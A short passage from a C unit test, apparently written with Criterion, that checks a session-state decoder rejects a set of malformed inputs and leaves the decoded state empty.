    for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
        cr_assert_eq(session_state_decode(arena, str_from(bad[i]), &back), i == 3);
        cr_assert(!back.pending && back.login_at_us == TIME_NONE && back.n_artifact_list == 0 && back.n_keys == 0);
    }
}
